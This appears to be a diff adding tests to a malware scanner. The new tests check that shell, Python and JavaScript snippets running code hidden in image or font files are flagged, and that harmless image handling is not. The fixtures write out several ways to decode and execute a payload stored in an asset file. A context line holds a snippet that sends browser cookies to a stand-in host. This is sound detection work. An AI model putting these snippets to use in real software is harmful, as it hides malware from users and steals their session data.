@@ -529,3 +529,44 @@ describe("a library that is not followed to the end", () => {
     ['c=document.cookie;new Image().src="https://h.example/"+c'],
   ])("may be one with %s", (line) => expect(severityOf(line)).toBe("high"));
 });
+
+describe("a picture", () => {
+  it.each([
+    ["named by a variable", "a.sh", ["f=assets/logo.png", 'sh "$f"']],
+    ["read by a dot", "a.sh", [". ./assets/logo.png"]],
+    ["of a pattern", "a.sh", ['for f in assets/*.png; do bash "$f"; done']],
+    ["that was copied", "a.sh", ["cp assets/logo.png /tmp/x; sh /tmp/x"]],
+    ["whose end was written to a file", "a.sh", ["f=a/logo.jpg", 'tail -c 80 "$f" > /tmp/x', "python3 /tmp/x"]],
+    ["that was decrypted", "a.sh", ["openssl enc -d -in a/font.woff2 -out /tmp/x", "sh /tmp/x"]],
+    ["whose end is evaluated", "a.sh", ["f=a/logo.jpg", 'eval "$(tail -c 80 $f)"']],
+    [
+      "that is a command",
+      "a.py",
+      ["import os", 'd = open("a/logo.png", "rb").read()', "os.system(bytes(b ^ 5 for b in d).decode())"],
+    ],
+    [
+      "that is a command",
+      "a.js",
+      [
+        'const d = require("fs").readFileSync("a/logo.png").slice(-9);',
+        'require("child_process").execSync(d.toString());',
+      ],
+    ],
+  ])("is executed: %s in %s", (_how, path, lines) =>
+    expect(found(path, ...lines)).toEqual(["picture high what a picture or document holds"]),
+  );
+  it.each([
+    ["a.sh", ["cp assets/logo.png dist/", "node dist/server.js", "sh dist"]],
+    ["a.sh", ["cp assets/logo.png deploy.sh dist/", "sh deploy.sh"]],
+    ["a.sh", ["python3 resize.py assets/logo.png", 'for f in *.png; do sh resize.sh "$f"; done']],
+    [
+      "a.py",
+      [
+        "import subprocess",
+        'd = open("a/logo.png", "rb").read()',
+        'subprocess.run(["convert", "-", "b.png"], input=d)',
+      ],
+    ],
+    ["a.js", ['const d = fs.readFileSync("a/logo.png");', "const m = /x/.exec(name);", "execSync(name);"]],
+  ])("is not: %s %j", (path, lines) => expect(found(path, ...lines)).toEqual([]));
+});
